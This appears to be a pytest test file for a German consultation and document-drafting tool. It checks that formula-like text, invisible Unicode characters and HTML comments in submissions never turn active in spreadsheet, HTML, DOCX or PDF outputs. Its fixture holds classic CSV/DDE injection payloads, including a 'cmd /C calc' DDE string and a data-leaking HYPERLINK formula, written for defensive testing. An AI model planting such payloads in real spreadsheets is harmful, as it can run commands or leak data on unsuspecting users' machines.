"""Outsider text cannot act (issue 13, section 3): a comment, rationale, proposal or name that
looks like a formula, a control character or markup stays inert text in every output."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lafast_docs.consultation.intake.importer import import_bytes
from lafast_docs.consultation.submissions import iter_comments
from lafast_docs.decisions.disposition import decide
from lafast_docs.decisions.merge import literal, merge
from lafast_docs.decisions.sheet import export
from lafast_docs.outputs.document import render
from lafast_docs.outputs.synopse import synopse
from lafast_docs.text.drafts import load_draft
from lafast_docs.text.history import model_of

from ..conftest import (
    SAMPLE_FS,
    entry,
    lag_confirms,
    libreoffice_convert,
    pdf_text,
    write_draft_body,
)
from ..intake_files import fill_yaml_form

# what a spreadsheet would run or link when read as a formula (CSV/DDE injection classics)
FORMULAS = {
    "text": '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klick")',
    "rationale": "+1+2",
    "new": "-2+3+cmd|' /C calc'!A0",
    "reason": "@SUM(1+1)",
}


@pytest.fixture
def formula_ws(fs_ws):
    ids = fs_ws.submit(
        "awo-sachsen",
        f"  - rn: 76\n    art: inhaltlich\n    anmerkung: '{FORMULAS['text']}'\n"
        f"    begruendung: '{FORMULAS['rationale']}'\n"
        f'    aenderungsvorschlag: "{FORMULAS["new"]}"\n',
    )
    decide(fs_ws, ids[0], "abgelehnt", reason=FORMULAS["reason"])
    return fs_ws


def formula_cells(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula, and every `<f>` element in the sheets' XML."""
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(path) as z:
        found += [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    return found


def texts(path: Path) -> set[str]:
    return {
        str(v)
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows(values_only=True)
        for v in row
        if v is not None
    }


def sheets_of(ws, tmp_path: Path) -> dict[str, Path]:
    sheet, _n = export(ws, SAMPLE_FS, target=tmp_path / "abwaegung.xlsx")
    [syn] = synopse(
        ws, SAMPLE_FS, f"lafast/{SAMPLE_FS}/runde-1", "HEAD", formats=("xlsx",), out_dir=tmp_path
    )
    return {"abwaegung": sheet, "synopse": syn.path}


def test_spreadsheet_cells_from_text_are_never_formulas(formula_ws, tmp_path) -> None:
    for name, path in sheets_of(formula_ws, tmp_path).items():
        assert formula_cells(path) == [], name
        values = " ".join(texts(path))
        present = [v for v in FORMULAS.values() if v in values]
        assert present, (name, values[:400])  # the text is kept, as text


@pytest.mark.slow
def test_libreoffice_evaluates_nothing(formula_ws, tmp_path) -> None:
    """LibreOffice opens each sheet and saves it again: a formula would come back evaluated
    (3, 2, 'Klick'); text comes back unchanged."""
    for name, path in sheets_of(formula_ws, tmp_path).items():
        again = libreoffice_convert(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / f"lo-{name}")
        assert formula_cells(again) == [], name
        values = texts(again)
        for key in ("text", "rationale", "new", "reason"):
            if any(FORMULAS[key] in v for v in texts(path)):
                assert any(FORMULAS[key] in v for v in values), (name, key)
        assert "Klick" not in values and "3" not in values and "2" not in values


# -- invisible characters ------------------------------------------------------------------------
# a ratio that displays as "1:60" but holds a zero-width space, a right-to-left override and a
# byte order mark; every one of the invisible characters the issue names
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")
SNEAKY = "1:\u200b6\u202e0\u202c\ufeff"
INVISIBLES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u2060\ufeff"


def test_invisible_characters_are_removed_before_storing_and_never_merged(fs_ws) -> None:
    ws = fs_ws
    ids = ws.submit(
        "awo-sachsen",
        entry(100, "mindestens drei Monaten", f"mindestens {SNEAKY} Monaten")
        + f'  - rn: 76\n    anmerkung: "Kinder{INVISIBLES} anders gewichten."\n',
    )
    stored = [c for _s, c in iter_comments(ws, SAMPLE_FS)]
    assert [c["id"] for c in stored] == ids
    dumped = json.dumps(stored, ensure_ascii=False)
    assert not INVISIBLE.search(dumped), [ch for ch in dumped if INVISIBLE.match(ch)]
    assert "mindestens 1:60 Monaten" in dumped and "Kinder anders gewichten." in dumped
    decide(ws, ids[0], "angenommen")
    lag_confirms(ws, [ids[0]])
    merge(ws, SAMPLE_FS)
    body = (ws.drafts_dir / SAMPLE_FS / "document.md").read_text("utf-8")
    assert "mindestens 1:60 Monaten" in body and not INVISIBLE.search(body)


def test_import_reports_what_it_removed(fs_ws) -> None:
    folder = next((fs_ws.comments_dir / SAMPLE_FS).glob("runde-*"))
    data = fill_yaml_form(
        folder / "formulare" / "caritas-dresden" / f"{SAMPLE_FS}-runde-1-caritas-dresden.yaml",
        f'  - rn: 76\n    anmerkung: "a{INVISIBLES}b"\n',
    )
    [res] = import_bytes(fs_ws, data, "antwort.yaml")
    assert res.status == "importiert"
    assert f"{len(INVISIBLES)} unsichtbare Steuer- oder Leerzeichen" in " ".join(res.notes)


def test_merge_never_writes_invisible_characters() -> None:
    """Also for submissions stored before the intake removed them."""
    assert literal(f"mindestens {SNEAKY} Monaten") == "mindestens 1:60 Monaten"


# -- authors' notes inside a paragraph ---------------------------------------------------------
NOTE = "INTERN-NOTIZ-4711"


def test_inline_html_comments_reach_no_output(ws, tmp_path) -> None:
    write_draft_body(
        ws,
        "notizen",
        f"# Abschnitt\n\nText <!-- {NOTE} a --> weiter im Text.\n\n"
        f"Zwei Zeilen <!-- {NOTE}\nb --> und *betont <!-- {NOTE} c -->*.\n\n"
        f"- Punkt <!-- {NOTE} d -->\n\n| Spalte <!-- {NOTE} e --> | B |\n|---|---|\n| 1 | 2 |\n\n"
        f"<!-- {NOTE} block -->\n",
    )
    out = {o.format: o.path for o in render(ws, "notizen", out_dir=tmp_path / "aus")}
    html = out["html"].read_text("utf-8")
    assert NOTE not in html and "<!--" not in html.split("<body", 1)[1]
    assert "Text weiter im Text." in " ".join(html.split())
    with zipfile.ZipFile(out["docx"]) as z:
        assert not [n for n in z.namelist() if NOTE.encode() in z.read(n)]
    assert NOTE not in pdf_text(out["pdf"]) and "weiter im Text" in pdf_text(out["pdf"])
    assert NOTE.encode() not in out["pdf"].read_bytes()
    assert not [b for b in model_of(load_draft(ws, "notizen")).blocks if NOTE in b.text]
